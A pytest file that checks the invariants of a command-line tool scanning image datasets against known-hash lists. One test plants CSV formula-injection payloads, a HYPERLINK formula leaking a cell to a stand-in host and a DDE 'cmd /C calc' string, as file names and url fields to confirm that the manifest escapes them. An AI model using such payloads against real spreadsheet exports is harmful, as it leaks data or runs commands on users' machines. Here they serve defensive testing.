"""DESIGN.md's invariants, each checked on a real scan + clean through the command line."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
from pathlib import Path

import pytest
from PIL import Image

from safeset.examples import ExampleSet, write_folder

from .support import all_rows, run_cli


def _snapshot(root: Path) -> dict[str, tuple[int, int, str]]:
    return {
        p.relative_to(root).as_posix(): (
            p.stat().st_size,
            p.stat().st_mtime_ns,
            hashlib.sha256(p.read_bytes()).hexdigest(),
        )
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def _broken_samples() -> dict[str, bytes]:
    buf = io.BytesIO()
    Image.new("RGB", (300, 200), (120, 30, 200)).save(buf, "PNG")
    png = buf.getvalue()
    return {
        "zz/empty.jpg": b"",
        "zz/truncated.png": png[: len(png) // 2],
        "zz/noise.jpg": os.urandom(5000),
        "zz/notes.html": b"<html><body>not an image</body></html>",
    }


@pytest.fixture(scope="module")
def job(examples: ExampleSet, known_list: Path, tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("invariants")
    source = write_folder(examples, root / "data")
    for rel, blob in _broken_samples().items():
        (source / rel).parent.mkdir(exist_ok=True)
        (source / rel).write_bytes(blob)
    before = _snapshot(source)
    tmp = root / "tmp"
    tmp.mkdir()
    env = {"TMPDIR": str(tmp)}
    scan = run_cli(
        "scan",
        str(source),
        "--list",
        str(known_list),
        "--out",
        str(root / "scan"),
        "--dihedral",
        "--workers",
        "2",
        env=env,
    )
    assert scan.returncode == 0, scan.stderr
    clean = run_cli(
        "clean", str(source), "--scan", str(root / "scan"), "--out", str(root / "clean"), env=env
    )
    assert clean.returncode == 0, clean.stderr
    keep_review = run_cli(
        "clean",
        str(source),
        "--scan",
        str(root / "scan"),
        "--out",
        str(root / "clean-keep-review"),
        "--keep-review",
        "--quiet",
        env=env,
    )
    assert keep_review.returncode == 0, keep_review.stderr
    return {
        "root": root,
        "source": source,
        "tmp": tmp,
        "before": before,
        "output": scan.stdout + scan.stderr + clean.stdout + clean.stderr,
    }


def _written_files(job) -> list[Path]:
    root = job["root"]
    return [
        p
        for d in ("scan", "clean", "clean-keep-review", "tmp")
        for p in (root / d).rglob("*")
        if p.is_file()
    ]


def test_1_no_flagged_bytes_written_anywhere(job, examples: ExampleSet) -> None:
    flagged = [r.data for r in examples.records if r.hidden]
    flagged_md5 = {hashlib.md5(d).hexdigest() for d in flagged}
    # A 64-byte window from the middle of each flagged file: any copy, whole or embedded, has it.
    probes = [d[len(d) // 2 : len(d) // 2 + 64] for d in flagged]
    files = _written_files(job)
    assert files, "the job wrote nothing?"
    for path in files:
        blob = path.read_bytes()
        assert hashlib.md5(blob).hexdigest() not in flagged_md5, path
        assert not any(p in blob for p in probes), path
    assert not any(job["tmp"].iterdir()), "temporary files left behind"


def test_2_source_is_never_modified(job) -> None:
    assert _snapshot(job["source"]) == job["before"]


def test_3_every_unflagged_sample_is_in_the_clean_copy(job, examples: ExampleSet) -> None:
    clean = job["root"] / "clean"
    kept = {r.data for r in examples.records if not r.hidden}
    written = {p.read_bytes() for p in clean.rglob("*.jpg")} | {
        p.read_bytes() for p in clean.rglob("*.png")
    }
    assert written == kept


def test_4_unreadable_samples_are_review_rows_with_reasons(job) -> None:
    scan = job["root"] / "scan"
    rows = all_rows(scan)
    errors = {r["location"]: r for r in rows if r["error"]}
    assert set(errors) == set(_broken_samples())
    assert errors["zz/empty.jpg"]["error"] == "empty file"
    assert errors["zz/truncated.png"]["error"].startswith("truncated or corrupt image data")
    assert errors["zz/noise.jpg"]["error"] == "not a recognised image format"
    assert all(r["action"] == "review" for r in errors.values())
    assert all(r["reasons"] == [f"error:{r['error']}"] for r in errors.values())
    manifest = (scan / "manifest.csv").read_text()
    assert all(loc in manifest for loc in errors)
    # Default clean leaves them out; --keep-review keeps them byte-identical.
    assert not any((job["root"] / "clean" / loc).exists() for loc in errors)
    for loc in errors:
        kept = job["root"] / "clean-keep-review" / loc
        assert kept.read_bytes() == (job["source"] / loc).read_bytes()


def test_5_hash_list_contents_never_reach_the_terminal(
    job, known_list: Path, examples: ExampleSet
) -> None:
    entries = [
        line.split()[1]
        for line in known_list.read_text().splitlines()
        if line and not line.startswith("#")
    ]
    assert len(entries) == 2 * len(examples.known)  # a pdq and an md5 per known photo
    output = job["output"].lower()
    assert not any(e in output for e in entries)


def test_6_resume_after_losing_shards_gives_identical_outputs(
    examples: ExampleSet, known_list: Path, tmp_path: Path
) -> None:
    source = write_folder(examples, tmp_path / "data")
    args = [
        "scan",
        str(source),
        "--list",
        str(known_list),
        "--out",
        str(tmp_path / "scan"),
        "--quiet",
    ]
    assert run_cli(*args).returncode == 0
    scan = tmp_path / "scan"
    first = {p.name: p.read_bytes() for p in (scan / "results").iterdir()}
    manifest = (scan / "manifest.csv").read_bytes()
    summary = json.loads((scan / "summary.json").read_text())
    # Simulate a run killed before its last shard and its reports were written.
    (scan / "results" / sorted(first)[-1]).unlink()
    (scan / "manifest.csv").unlink()
    (scan / ".half-written.tmp").write_bytes(b"partial")
    resumed = run_cli(*args)
    assert resumed.returncode == 0, resumed.stderr
    again = json.loads((scan / "summary.json").read_text())
    assert again["run"]["shards_resumed"] == len(first) - 1
    assert {p.name: p.read_bytes() for p in (scan / "results").iterdir()} == first
    assert (scan / "manifest.csv").read_bytes() == manifest
    assert {k: v for k, v in again.items() if k != "run"} == {
        k: v for k, v in summary.items() if k != "run"
    }


def test_a_different_job_in_the_same_folder_is_refused(
    examples: ExampleSet, known_list: Path, tmp_path: Path
) -> None:
    source = write_folder(examples, tmp_path / "data")
    out = str(tmp_path / "scan")
    assert (
        run_cli("scan", str(source), "--list", str(known_list), "--out", out, "-q").returncode == 0
    )
    other = run_cli(
        "scan", str(source), "--list", str(known_list), "--out", out, "-q", "--pdq-threshold", "20"
    )
    assert other.returncode == 2
    assert "holds a scan of a different job" in other.stderr
    forced = run_cli(
        "scan",
        str(source),
        "--list",
        str(known_list),
        "--out",
        out,
        "-q",
        "--pdq-threshold",
        "20",
        "--force",
    )
    assert forced.returncode == 0, forced.stderr
    shutil.rmtree(tmp_path / "data")


def test_8_no_manifest_cell_is_a_spreadsheet_formula(tmp_path: Path) -> None:
    """Keys, locations and urls come from the dataset; in the manifest none may start a formula
    (=, +, -, @, tab, CR), while results/ keep every value exactly."""
    folder = tmp_path / "data"
    folder.mkdir()
    names = ['=HYPERLINK("x.example?"&B2).jpg', "+1.jpg", "-2.jpg", "@SUM(1).jpg", "\tt.jpg"]
    blobs = []
    for n, name in enumerate(names):
        buf = io.BytesIO()
        Image.new("RGB", (64, 48), (n * 40, 90, 200 - n * 30)).save(buf, "JPEG")
        blobs.append(buf.getvalue())
        (folder / name).write_bytes(blobs[-1])
        url = {"url": f"=cmd|' /C calc'!A{n}"}
        (folder / name).with_suffix(".json").write_text(json.dumps(url))
    known = tmp_path / "known.txt"
    known.write_text("".join(f"md5 {hashlib.md5(b).hexdigest()}\n" for b in blobs))
    result = run_cli("scan", str(folder), "--list", str(known), "--out", str(tmp_path / "scan"))
    assert result.returncode == 0, result.stderr
    with open(tmp_path / "scan" / "manifest.csv", newline="") as f:
        manifest = list(csv.DictReader(f))
    assert len(manifest) == len(names)
    cells = [cell for row in manifest for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(row["key"] for row in manifest) == sorted(f"'{n}" for n in names)
    assert {r["key"] for r in all_rows(tmp_path / "scan")} == set(names)
